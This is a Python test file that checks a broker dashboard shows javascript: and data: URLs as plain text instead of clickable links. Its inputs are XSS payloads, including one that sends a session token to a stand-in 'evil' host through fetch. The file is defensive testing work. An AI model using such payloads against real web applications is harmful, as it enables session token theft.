"""The dashboard links only to http(s) URLs: a broker registration saying
`javascript:...` is shown as text. The page's own rendering functions, run in headless Chromium (the script is evaluated with its start-up lines left out and a
stand-in document)."""

from __future__ import annotations

import json
from pathlib import Path

APP_JS = Path(__file__).resolve().parents[4] / "stableline/broker/http/dashboard/static/app.js"


def _render(browser, expressions: list[str]) -> list:
    """The values of `expressions` after the page's script is defined, with a stand-in
    document (its start-up lines, which need the real page, are left out)."""
    source = APP_JS.read_text()
    body = source[: source.rindex('window.addEventListener("hashchange"')]
    program = (
        "return (function (document) {\n"
        + body
        + f"\nreturn JSON.stringify([{', '.join(expressions)}]);\n"
        + "})({ getElementById: () => null });"
    )
    return json.loads(browser.execute_script(program))


def _broker(http_url: str) -> str:
    document = {
        "brokerId": "10.0.0.9:6650",
        "httpUrl": http_url,
        "live": True,
        "thisBroker": False,
        "load": {"loadedTopics": 0, "connections": 0},
    }
    return f"render(brokerRow({json.dumps(document)}))"


def test_a_javascript_http_url_is_rendered_as_text_not_a_link(browser):
    forged, upper, data, good, tls = _render(
        browser,
        [
            _broker("javascript:fetch('//evil/'+sessionStorage.getItem(TOKEN_KEY))"),
            _broker("JAVASCRIPT:alert(1)"),
            _broker("data:text/html,<script>alert(1)</script>"),
            _broker("http://10.0.0.9:8080"),
            _broker("https://10.0.0.9:8443"),
        ],
    )
    for row in (forged, upper, data):
        assert "<a " not in row and "href" not in row, row
    assert '<a href="http://10.0.0.9:8080/">http://10.0.0.9:8080</a>' in good
    assert '<a href="https://10.0.0.9:8443/">' in tls


def test_owner_links_need_an_http_url_too(browser):
    state = (
        "{byId: new Map([['b:1', {brokerId: 'b:1', live: true, thisBroker: false, "
        "httpUrl: 'javascript:alert(1)'}]]), owners: {'persistent://t/n/x': 'b:1'}}"
    )
    href, cell = _render(
        browser,
        [
            f"ownerTopicHref({state}, 'persistent://t/n/x')",
            f"render(ownerCell({state}, 'persistent://t/n/x'))",
        ],
    )
    assert href is None
    assert "href" not in cell and "b:1" in cell
